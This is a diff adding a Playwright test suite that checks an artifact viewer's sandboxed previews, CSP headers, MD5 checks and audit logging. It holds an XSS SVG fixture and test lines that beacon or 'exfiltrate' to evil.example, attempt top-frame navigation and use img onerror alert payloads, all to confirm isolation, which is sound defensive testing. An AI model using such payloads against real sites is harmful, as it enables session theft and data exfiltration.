@@ -1,0 +1,331 @@
+import { expect, test, type Frame, type Page } from "@playwright/test";
+import { SMALL_SEED_1_ARTIFACTS as IDS } from "./support/simulator-ids";
+import { database, seedSession, SESSION_COOKIE, stackInfo } from "./support/stack";
+
+const previewPath = (versionId: string) => `/api/artifacts/${versionId}/preview`;
+
+/** An SVG that tries everything an artifact should never manage; served under the real preview's headers below. */
+const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" onload="window.__svgOnload = 1">
+<script>
+  window.__xss = 1;
+  try { parent.__xss = 1; } catch (error) {}
+  try { top.location = "https://evil.example/top"; } catch (error) {}
+  fetch("/api/chats").catch(() => {});
+  fetch("https://evil.example/beacon").catch(() => {});
+  new Image().src = "https://evil.example/pixel.png";
+  document.documentElement.setAttribute("data-ran-in", String(self.origin));
+</script>
+<image href="https://evil.example/image.png" width="10" height="10"/>
+<text x="10" y="40">hostile</text>
+</svg>`;
+
+/** Run inside a page or frame: an opaque origin may not touch cookies, nor its parent's document. */
+const readCookie = () => {
+  try {
+    return `read: ${document.cookie}`;
+  } catch (error) {
+    return `refused: ${(error as Error).name}`;
+  }
+};
+const readParentTitle = () => {
+  try {
+    return `read: ${parent.document.title}`;
+  } catch (error) {
+    return `refused: ${(error as Error).name}`;
+  }
+};
+
+let reviewerSubject: string;
+
+test.beforeEach(async ({ context, baseURL }) => {
+  const { token, subject } = await seedSession("reviewer");
+  reviewerSubject = subject;
+  await context.addCookies([{ name: SESSION_COOKIE, value: token, url: baseURL!, httpOnly: true, sameSite: "Lax" }]);
+});
+
+/**
+ * Every request the page and its frames start, and every dialog anything opens. A request the browser
+ * blocks itself (CSP) never leaves it; any other request to another origin, to /api/chats, or from
+ * inside a preview other than loading the preview itself, is a leak.
+ */
+function watch(page: Page) {
+  const started: Array<{ url: string; isFromPreview: boolean; isPreviewDocument: boolean }> = [];
+  const blockedByBrowser = new Set<string>();
+  const dialogs: string[] = [];
+  page.on("request", (request) => {
+    const isFromPreview = request.frame() !== page.mainFrame();
+    started.push({ url: request.url(), isFromPreview, isPreviewDocument: isFromPreview && request.isNavigationRequest() && request.url().endsWith("/preview") });
+  });
+  page.on("requestfailed", (request) => {
+    if (["csp", "net::ERR_BLOCKED_BY_CSP"].includes(request.failure()?.errorText ?? "")) blockedByBrowser.add(request.url());
+  });
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  return {
+    dialogs,
+    previewLoads: () => started.filter((request) => request.isPreviewDocument).map((request) => request.url),
+    leaked: () =>
+      started
+        .filter((request) => !blockedByBrowser.has(request.url))
+        .filter((request) => !request.url.startsWith(stackInfo().appUrl) || new URL(request.url).pathname === "/api/chats" || (request.isFromPreview && !request.isPreviewDocument))
+        .map((request) => request.url),
+  };
+}
+
+async function auditRowsOf(action: string, targetId: string) {
+  const rows = await database().query<{ target_type: string; params: Record<string, unknown>; outcome: string }>(
+    "SELECT target_type, params, outcome FROM audit_event WHERE actor_subject = $1 AND action = $2 AND target_id = $3 ORDER BY seq",
+    [reviewerSubject, action, targetId],
+  );
+  return rows.rows;
+}
+
+async function previewFrame(page: Page, versionId: string): Promise<Frame> {
+  await page.getByRole("button", { name: "Run live preview" }).click();
+  await expect(page.locator(`iframe[src="${previewPath(versionId)}"]`)).toHaveAttribute("sandbox", "allow-scripts");
+  await expect.poll(() => page.frames().find((frame) => frame.url().endsWith(previewPath(versionId)))).toBeDefined();
+  return page.frames().find((frame) => frame.url().endsWith(previewPath(versionId)))!;
+}
+
+async function setSimulatorFaults(rules: unknown[]) {
+  const response = await fetch(`${stackInfo().apiBaseUrl}/_simulator/faults`, { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify({ rules }) });
+  expect(response.status).toBe(200);
+}
+
+test("a markdown version shows formatted, its facts and a verified MD5; the read is audited with its outcome", async ({ page }) => {
+  const versionId = IDS.markdown[2];
+  await page.goto(`/artifacts/${versionId}`);
+  await expect(page.getByRole("article", { name: "Launch Plan" })).toBeVisible();
+  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
+  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("the metadata's md5 and the Content-MD5 header");
+  await expect(page.getByText(versionId, { exact: true })).toBeVisible();
+  const content = page.getByRole("region", { name: "Content" });
+  await expect(content.getByRole("heading", { name: "Risks" })).toBeVisible();
+  await content.getByRole("button", { name: "Source" }).click();
+  await expect(content.getByText("## Risks")).toBeVisible();
+
+  await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([
+    expect.objectContaining({ target_type: "artifact_version", outcome: "success", params: expect.objectContaining({ md5: "verified", cut: false, artifactId: expect.any(String) }) }),
+  ]);
+});
+
+test("the artifact's versions are listed in order, and any two can be compared line by line", async ({ page }) => {
+  await page.goto(`/artifacts/${IDS.markdown[1]}`);
+  const versions = page.getByRole("region", { name: /^Versions/ });
+  await expect(versions.getByRole("link", { name: /^Version \d$/ })).toHaveText(["Version 1", "Version 2", "Version 3"]);
+  await expect(versions.getByRole("link", { name: "Version 2" })).toHaveAttribute("aria-current", "page");
+  for (const [index, versionId] of IDS.markdown.entries()) {
+    await expect(versions.getByRole("link", { name: `Version ${index + 1}` })).toHaveAttribute("href", `/artifacts/${versionId}`);
+  }
+  await expect(versions.getByRole("link", { name: "Message in the chat" }).first()).toHaveAttribute("href", new RegExp(`^/chats/${IDS.chat}\\?message=claude_chat_msg_`));
+  // Nothing of another version is read until the reviewer asks for the comparison.
+  expect(await auditRowsOf("artifact.view", IDS.markdown[0])).toEqual([]);
+
+  await versions.getByLabel("Compare").selectOption({ label: "Version 1" });
+  await versions.getByLabel("with").selectOption({ label: "Version 3" });
+  await versions.getByRole("button", { name: "Show differences" }).click();
+  const differences = page.getByRole("region", { name: "Differences" });
+  await expect(differences.getByRole("status")).toHaveText(/^0 lines removed, \d+ lines added\.$/);
+  await expect(differences.locator('tr[data-change="added"]', { hasText: "## Timeline" })).toHaveCount(1);
+  await expect(differences.locator('tr[data-change="added"]', { hasText: "## Risks" })).toHaveCount(1);
+  await expect(differences.locator('tr[data-change="removed"]')).toHaveCount(0);
+
+  await expect.poll(() => auditRowsOf("artifact.view", IDS.markdown[0])).toHaveLength(1);
+  await expect.poll(() => auditRowsOf("artifact.view", IDS.markdown[2])).toHaveLength(1);
+});
+
+test("code is highlighted, and HTML, SVG and React are shown as source that never runs on the page", async ({ page }) => {
+  const watched = watch(page);
+  await page.goto(`/artifacts/${IDS.code[1]}`);
+  const code = page.getByRole("region", { name: "Content" });
+  await expect(code).toContainText("def discount(total: float, seats: int) -> float:");
+  await expect(code.locator("pre code span.token.keyword", { hasText: "def" }).first()).toBeVisible();
+
+  for (const versionId of [IDS.html[1], IDS.svg[0], IDS.react[1], IDS.hostileHtml]) {
+    await page.goto(`/artifacts/${versionId}`);
+    await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
+    await expect(page.getByText("Shown as source: the artifact's code does not run on this page.")).toBeVisible();
+    await expect(page.locator("iframe")).toHaveCount(0);
+  }
+  await expect(page.getByRole("region", { name: "Content" })).toContainText(`<img src=x onerror="alert('xss-img')">`);
+  await expect(page.getByRole("article", { name: "<img src=x onerror=alert('artifact-title')>" })).toBeVisible();
+
+  await page.goto(`/artifacts/${IDS.react[1]}`);
+  await expect(page.getByRole("region", { name: "Content" })).toContainText("const [seats, setSeats] = useState(10);");
+  await expect(page.getByText("React artifacts are shown as source only")).toBeVisible();
+  await expect(page.getByRole("button", { name: "Run live preview" })).toHaveCount(0);
+
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(watched.dialogs).toEqual([]);
+  expect(watched.leaked()).toEqual([]);
+});
+
+test("an HTML preview runs its script inside the sandbox only: no cookie, no network, nothing on the app origin", async ({ page }) => {
+  const watched = watch(page);
+  const versionId = IDS.html[1];
+  await page.goto(`/artifacts/${versionId}`);
+  await expect(page.getByRole("region", { name: "Content" })).toContainText('fetch("https://evil.example/beacon")');
+  await expect(page.locator("iframe")).toHaveCount(0);
+  const appTitle = await page.title();
+
+  const frame = await previewFrame(page, versionId);
+  // The artifact's script did run (it sets its own title): the isolation below is not for want of running.
+  await expect.poll(() => frame.evaluate(() => document.title)).toBe("v2");
+  await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toBeVisible();
+  expect(await frame.evaluate(() => self.origin)).toBe("null");
+  expect(await frame.evaluate(readCookie)).toBe("refused: SecurityError");
+  expect(await frame.evaluate(readParentTitle)).toBe("refused: SecurityError");
+  expect(await frame.evaluate(() => fetch("/api/chats").then(() => "fetched", () => "refused"))).toBe("refused");
+  expect(await frame.evaluate(() => fetch("https://evil.example/exfiltrate").then(() => "fetched", () => "refused"))).toBe("refused");
+
+  expect(await page.title()).toBe(appTitle);
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(watched.previewLoads()).toEqual([`${stackInfo().appUrl}${previewPath(versionId)}`]);
+  expect(watched.leaked()).toEqual([]);
+  expect(watched.dialogs).toEqual([]);
+  await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([
+    expect.objectContaining({ params: expect.objectContaining({ md5: "verified", cut: false }) }),
+    expect.objectContaining({ params: expect.objectContaining({ md5: "verified", preview: "served" }) }),
+  ]);
+});
+
+test("a preview cannot navigate itself or the page away: a link or a script in it reaches nothing", async ({ page }) => {
+  const watched = watch(page);
+  const versionId = IDS.html[1];
+  // The frame's own navigations are attempted and blocked (the frame then shows the browser's error
+  // page); the sandbox refuses to navigate the top page outright.
+  for (const { leave, isAttempted } of [
+    { leave: (frame: Frame) => frame.getByRole("link", { name: "Acme" }).click(), isAttempted: true },
+    { leave: (frame: Frame) => frame.evaluate(() => void (location.href = "https://evil.example/navigate")), isAttempted: true },
+    { leave: (frame: Frame) => frame.evaluate(() => void (top!.location.href = "https://evil.example/top")).catch(() => undefined), isAttempted: false },
+  ]) {
+    await page.goto(`/artifacts/${versionId}`);
+    const frame = await previewFrame(page, versionId);
+    await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toBeVisible();
+    await leave(frame);
+    if (isAttempted) await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toHaveCount(0);
+    await expect(page.getByRole("article", { name: "Landing page" })).toBeVisible();
+    expect(page.url()).toBe(`${stackInfo().appUrl}/artifacts/${versionId}`);
+  }
+  expect(watched.leaked()).toEqual([]);
+  expect(watched.dialogs).toEqual([]);
+});
+
+test("the hostile chat's HTML artifact runs in the preview without a dialog, an image or its full-page frame reaching out", async ({ page }) => {
+  const watched = watch(page);
+  await page.goto(`/artifacts/${IDS.hostileHtml}`);
+  const frame = await previewFrame(page, IDS.hostileHtml);
+  await expect(frame.getByRole("heading", { name: "Acme launch 1" })).toBeVisible();
+  await expect.poll(() => frame.evaluate(() => document.title)).toBe("v1");
+  await expect(page.getByRole("article", { name: "<img src=x onerror=alert('artifact-title')>" })).toBeVisible();
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(watched.leaked()).toEqual([]);
+  expect(watched.dialogs).toEqual([]);
+});
+
+test("an SVG artifact's preview draws it, in the same sandbox", async ({ page }) => {
+  const watched = watch(page);
+  await page.goto(`/artifacts/${IDS.svg[0]}`);
+  await expect(page.getByRole("region", { name: "Content" })).toContainText('<svg xmlns="http://www.w3.org/2000/svg"');
+  const frame = await previewFrame(page, IDS.svg[0]);
+  await expect(frame.locator("svg > text")).toHaveText("A1");
+  expect(await frame.evaluate(() => self.origin)).toBe("null");
+  expect(watched.previewLoads()).toEqual([`${stackInfo().appUrl}${previewPath(IDS.svg[0])}`]);
+  expect(watched.leaked()).toEqual([]);
+});
+
+test("an SVG with a script, under the preview's own headers, runs in an opaque origin and reaches nothing", async ({ page }) => {
+  const watched = watch(page);
+  const versionId = IDS.svg[0];
+  await page.route(`**${previewPath(versionId)}`, async (route) => {
+    const response = await route.fetch();
+    expect(response.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
+    await route.fulfill({ response, body: HOSTILE_SVG });
+  });
+  await page.goto(`/artifacts/${versionId}`);
+  const frame = await previewFrame(page, versionId);
+  await expect.poll(() => frame.evaluate(() => document.documentElement.getAttribute("data-ran-in"))).toBe("null");
+  expect(await frame.evaluate(() => (window as { __xss?: unknown }).__xss)).toBe(1);
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(page.url()).toBe(`${stackInfo().appUrl}/artifacts/${versionId}`);
+  expect(watched.leaked()).toEqual([]);
+  expect(watched.dialogs).toEqual([]);
+});
+
+test("opened directly, the preview is still sandboxed by its own headers, and the session cookie is out of its reach", async ({ page }) => {
+  const watched = watch(page);
+  const response = await page.goto(previewPath(IDS.html[1]));
+  await expect.poll(() => page.title()).toBe("v2");
+  expect(await page.evaluate(() => self.origin)).toBe("null");
+  expect(await page.evaluate(readCookie)).toBe("refused: SecurityError");
+  expect(watched.leaked()).toEqual([]);
+  expect(response!.headers()).toMatchObject({
+    "content-type": "text/html; charset=utf-8",
+    "x-content-type-options": "nosniff",
+    "referrer-policy": "no-referrer",
+    "cache-control": "no-store",
+  });
+  const policy = response!.headers()["content-security-policy"]!;
+  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", "form-action 'none'", "frame-ancestors 'self'"]) expect(policy).toContain(directive);
+  expect(policy).not.toContain("allow-same-origin");
+});
+
+test("a markdown or React artifact has no preview to serve", async ({ page }) => {
+  for (const versionId of [IDS.markdown[0], IDS.react[0]]) {
+    const response = await page.request.get(previewPath(versionId));
+    expect(response.status()).toBe(404);
+    expect(response.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
+  }
+});
+
+test("a version whose MD5 does not match is shown with a loud warning, is not previewed, and is audited as a mismatch", async ({ page }) => {
+  const versionId = IDS.html[0];
+  await setSimulatorFaults([{ match: { path: `/v1/compliance/apps/artifacts/${versionId}/content` }, times: 1, fault: { type: "wrong_md5" } }]);
+  try {
+    await page.goto(`/artifacts/${versionId}`);
+    const alert = page.getByRole("alert", { name: "MD5 check" });
+    await expect(alert).toContainText("MD5 mismatch: this is not the content the API describes.");
+    await expect(alert).toContainText("Content-MD5 header");
+    await expect(page.getByRole("button", { name: "Run live preview" })).toHaveCount(0);
+    await expect(page.getByText("Not available: the content does not match its MD5")).toBeVisible();
+    await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([expect.objectContaining({ params: expect.objectContaining({ md5: "mismatch" }) })]);
+  } finally {
+    await setSimulatorFaults([]);
+  }
+});
+
+test("a project document shows its text as text, its facts and a verified MD5; the read is audited", async ({ page }) => {
+  const watched = watch(page);
+  await page.goto(`/project-documents/${IDS.hostileDocument}`);
+  await expect(page.getByRole("article", { name: "<script>alert('doc')</script> notes.txt" })).toBeVisible();
+  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
+  const content = page.getByRole("region", { name: "Content" });
+  await expect(content).toContainText("# Vendor onboarding notes");
+  await expect(content).toContainText(`<img src=x onerror="alert('xss-img')">`);
+  await expect(content.locator("img, iframe, svg, script")).toHaveCount(0);
+  await expect(page.getByRole("link", { name: /^claude_proj_/ })).toHaveAttribute("href", /^\/projects\/claude_proj_/);
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(watched.dialogs).toEqual([]);
+  expect(watched.leaked()).toEqual([]);
+  await expect.poll(() => auditRowsOf("document.view", IDS.hostileDocument)).toEqual([
+    expect.objectContaining({ target_type: "project_document", outcome: "success", params: expect.objectContaining({ md5: "verified", projectId: expect.any(String) }) }),
+  ]);
+
+  await page.goto(`/project-documents/${IDS.projectDocument}`);
+  await expect(page.getByRole("article", { name: "glossary – terms.md" })).toBeVisible();
+  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
+});
+
+test("the thread's artifact chips and the project's documents open these views", async ({ page }) => {
+  await page.goto(`/chats/${IDS.chat}`);
+  await page.getByRole("link", { name: "Artifact: Launch Plan" }).first().click();
+  await expect(page).toHaveURL(new RegExp(`/artifacts/${IDS.markdown[0]}$`));
+  await expect(page.getByRole("article", { name: "Launch Plan" })).toBeVisible();
+
+  await page.goto(`/projects/${IDS.documentsProject}`);
+  await page.getByRole("region", { name: "Attachments" }).getByRole("link", { name: "glossary – terms.md" }).click();
+  await expect(page).toHaveURL(new RegExp(`/project-documents/${IDS.projectDocument}$`));
+  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
+});
